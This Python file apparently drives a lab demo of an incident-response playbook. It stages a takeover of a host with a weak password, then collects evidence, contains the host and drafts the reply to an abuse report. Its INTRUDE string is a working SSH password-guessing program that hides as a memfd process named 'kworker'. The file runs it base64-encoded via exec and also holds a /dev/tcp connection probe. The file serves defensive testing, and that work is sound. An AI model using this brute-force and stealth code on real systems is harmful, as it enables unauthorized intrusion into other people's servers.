# Copyright: Contributors to the Portcullis project
# SPDX-License-Identifier: GPL-3.0-or-later
"""A host is taken over, guesses passwords elsewhere, and somebody writes a mail: read, collected, cut off, proven, answered."""

from __future__ import annotations

import argparse
import base64
import datetime
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from demo.fleet import ROOT, Fleet, Run
from demo.proofs import PASSWORDS, VICTIM
from demo.story import Step, Story, show
from lab import Lab, network

PLAYBOOK = ROOT / "playbooks" / "incident.yml"
#: Who is taken over, and who is attacked from there: a stranger's server, which is in no inventory.
TAKEN, ATTACKED = "taken1", "attacked1"
WEAK = "123456"
#: What the intruder does there: a program that is in memory only, guesses at somebody else's sshd, and goes on with it.
INTRUDE = """
import os, subprocess, sys
target, tries = sys.argv[1], int(sys.argv[2])
with open("/tmp/say", "w") as file:
    file.write("#!/bin/sh\\necho $GUESSED\\n")
os.chmod("/tmp/say", 0o755)
options = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password".split()
for number in range(tries):
    said = {"SSH_ASKPASS": "/tmp/say", "SSH_ASKPASS_REQUIRE": "force", "GUESSED": "guess%d" % number, "PATH": "/usr/bin:/bin"}
    ssh = ["ssh", *options, "-o", "NumberOfPasswordPrompts=1", "root@" + target, "true"]
    subprocess.run(ssh, env=said, stdin=subprocess.DEVNULL, capture_output=True)
if os.fork():
    os._exit(0)
os.setsid()
null = os.open("/dev/null", os.O_RDWR)
for number in range(3):
    os.dup2(null, number)
file = os.memfd_create("kworker")
os.write(file, open("/bin/sleep", "rb").read())
os.execv("/proc/self/fd/%d" % file, ["kworker", "100000"])
"""
#: Seen from a stranger's address, as the world sees the host.
PROBE = "import socket, sys; socket.create_connection((sys.argv[1], 22), 4, source_address=(sys.argv[2], 0)).close()"
OUTWARD = "timeout 4 bash -c 'exec 3<>/dev/tcp/{}/22'"
MAIL = """From: abuse@attacked.example
To: abuse@hoster.example
Date: {date}
Subject: Password guessing from {source}
Reply-To: cert@attacked.example
Content-Type: text/plain; charset=utf-8

Hello,

your server guesses passwords of ours. Lines of our log, times in UTC:

{lines}
"""


class Telling:
    """The story on the hosts of a lab; ``folder`` is the controller's, with its key and what it writes."""

    def __init__(self, lab: Lab, folder: Path, step: Step = lambda text: None) -> None:
        self.lab, self.folder, self.step = lab, folder, step
        self.story = Story("a report of abuse, step by step")
        self.fleet = Fleet(lab, {})
        hosts = self.fleet.inventory["all"]["hosts"]
        # Only our own: whose server is attacked nobody knows from an inventory.
        self.fleet.inventory["all"]["hosts"] = {name: hosts[name] for name in hosts if name != ATTACKED}

    def tell(self) -> Story:
        """Have all of it happen, in its order."""
        began = time.time()
        self.step("Taking the host over through a weak password, and guessing elsewhere from there")
        mail = self.intrude(began)
        self.step("Reading the mail")
        self.read(mail)
        self.step("Collecting evidence")
        bundle = self.collect()
        self.step("Cutting the host off, and proving it from outside")
        self.contain()
        self.step("Verifying the evidence, and drafting the answer")
        self.finish(mail, bundle)
        return self.story

    def intrude(self, began: float) -> Path:
        """Log in as an intruder does, and return the mail that whoever is attacked then writes, with lines of its own log."""
        self.lab.weaken(TAKEN)
        target = self.lab.machine(ATTACKED).ipv4
        argv = self.lab.ssh(TAKEN, VICTIM, source=network.STRANGER4)
        place = argv.index("-i")
        options = ["-F", "none", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1"]
        program = base64.b64encode(INTRUDE.encode()).decode()
        command = f"""python3 -c "import base64; exec(base64.b64decode('{program}'))" {target} 5"""
        done = self.lab.run(
            ["sshpass", "-p", WEAK, argv[0], *options, *argv[1:place], *argv[place + 2 :], command], timeout_seconds=120
        )
        assert WEAK in PASSWORDS
        self.story.saw(
            "taken over from elsewhere, by a password of the ten most common",
            "yes" if not done.returncode else "no",
            not done.returncode,
        )
        lines = self._on(
            ATTACKED,
            f"journalctl --quiet --utc --no-hostname --output short-iso --since @{int(began)} -u ssh | grep -F {self.lab.machine(TAKEN).ipv4} | head -20",
        )
        self.story.saw("lines of its log in the mail of whom it attacked", str(len(lines.splitlines())), bool(lines))
        path = self.folder / "abuse.eml"
        date = datetime.datetime.now(datetime.UTC).strftime("%a, %d %b %Y %H:%M:%S +0000")
        path.write_text(MAIL.format(date=date, source=self.lab.machine(TAKEN).ipv4, lines=lines))
        return path

    def read(self, mail: Path) -> None:
        run = self._act("read", incident_report=str(mail))
        found = f"Source: {self.lab.machine(TAKEN).ipv4} ({TAKEN})"
        self.story.saw(
            "the mail is about", TAKEN if found in run.output else "no host", run.code == 0 and found in run.output
        )
        clock = next((line for line in run.output.splitlines() if line.startswith(f"Clock of {TAKEN}: ")), "")
        self.story.saw("its clock", clock.partition(": ")[2][:70] or "not asked", "of this controller" in clock)

    def collect(self) -> Path:
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(self.folder / "key")], check=True)
        evidence = self.folder / "evidence"
        run = self._act(
            "collect", incident_host=TAKEN, incident_folder=str(evidence), incident_key=str(self.folder / "key")
        )
        found = sorted(evidence.iterdir()) if evidence.is_dir() else []
        if run.code or not found:
            self.story.saw("evidence collected", run.output[-300:], False)
            return evidence
        manifest: dict[str, Any] = json.loads((found[0] / "manifest.json").read_text())
        self.story.saw("evidence collected", f"{len(manifest['items'])} items", bool(manifest["complete"]))
        marked = any("memfd:kworker" in mark for mark in manifest["marks"])
        self.story.saw(
            "the intruder's program, which is in no file", "marked and kept" if marked else "not marked", marked
        )
        return found[0]

    def contain(self) -> None:
        before = self.seen()
        probe = [sys.executable, "-c", PROBE, self.lab.machine(TAKEN).ipv4, network.STRANGER4]
        run = self._act(
            "contain", incident_host=TAKEN, incident_sources=[f"{network.CONTROLLER4}/32"], incident_probe=probe
        )
        after = self.seen()
        whom = (
            "a stranger reaches its SSH",
            "a stranger reaches its SSH over IPv6",
            "the admin reaches it",
            "it reaches whom it attacked",
        )
        wanted = (("open", "timeout"), ("open", "timeout"), ("open", "open"), ("yes", "no"))
        for name, was, is_now, expected in zip(whom, before, after, wanted, strict=True):
            self.story.saw(f"{name}: before → after", f"{was} → {is_now}", run.code == 0 and (was, is_now) == expected)

    def finish(self, mail: Path, bundle: Path) -> None:
        run = self._act("verify", incident_bundle=str(bundle), incident_signer=f"{self.folder / 'key'}.pub")
        self.story.saw(
            "the evidence since",
            "as it was sealed" if "is as it was sealed" in run.output else "changed",
            run.code == 0,
        )
        answer = self.folder / "answer.txt"
        run = self._act(
            "answer",
            incident_report=str(mail),
            incident_found=[f"The account '{VICTIM}' had a weak password."],
            incident_done=["The server is cut off and will be set up anew."],
            incident_answer_path=str(answer),
        )
        text = answer.read_text() if answer.exists() else ""
        well = run.code == 0 and "weak password" in text and "UTC" in text and self.lab.machine(TAKEN).ipv4 in text
        self.story.saw(
            "the answer", f"drafted, {len(text.splitlines())} lines; nothing sent" if well else "not drafted", well
        )

    def seen(self) -> list[str]:
        asked = [(source, TAKEN, 22) for source in (network.STRANGER4, network.STRANGER6, network.CONTROLLER4)]
        out = self.lab.exec(TAKEN, ["sh", "-c", OUTWARD.format(self.lab.machine(ATTACKED).ipv4)]).returncode
        return [*self.lab.connect_all(asked), "no" if out else "yes"]

    def _act(self, action: str, **given: object) -> Run:
        run = self.fleet.play(PLAYBOOK, "-e", json.dumps({"incident_action": action, **given}))
        self.story.runs.append(run)
        return run

    def _on(self, host: str, command: str) -> str:
        return self.lab.exec(host, ["sh", "-c", command]).stdout.strip()


def machine_seconds(lab: Lab) -> float:
    """Return how long processors were busy with the story so far: the controller's with all that it started, and those of the hosts."""
    used = os.times()
    own = used.user + used.system + used.children_user + used.children_system
    return own + sum(lab.machine(host).cpu_seconds() for host in (TAKEN, ATTACKED))


def main() -> int:
    """Run the demo; return what its program ends with (see ``show``)."""
    parser = argparse.ArgumentParser(prog="demo.incident", description=__doc__)
    parser.add_argument(
        "--keep", type=Path, metavar="FOLDER", help="leave the mail, the evidence and the answer in this folder"
    )
    options = parser.parse_args()
    if options.keep and options.keep.exists():
        parser.error(f"--keep: {options.keep} is there already; name a folder that is not.")

    def tell(lab: Lab, folder: Path, step: Step) -> Story:
        lab.services()
        before = machine_seconds(lab)
        story = Telling(lab, folder, step).tell()
        print(f"{machine_seconds(lab) - before:8.0f} s of the processor went into the story.")
        if options.keep:
            shutil.copytree(folder, options.keep)
            print(f"The mail, the evidence and the answer are in {options.keep}.")
        return story

    return show("incident", {TAKEN: "trixie", ATTACKED: "bookworm"}, tell)


if __name__ == "__main__":
    if os.geteuid() != 0:
        sys.exit("demo: only root can boot whole hosts; run this as root.")
    sys.exit(main())
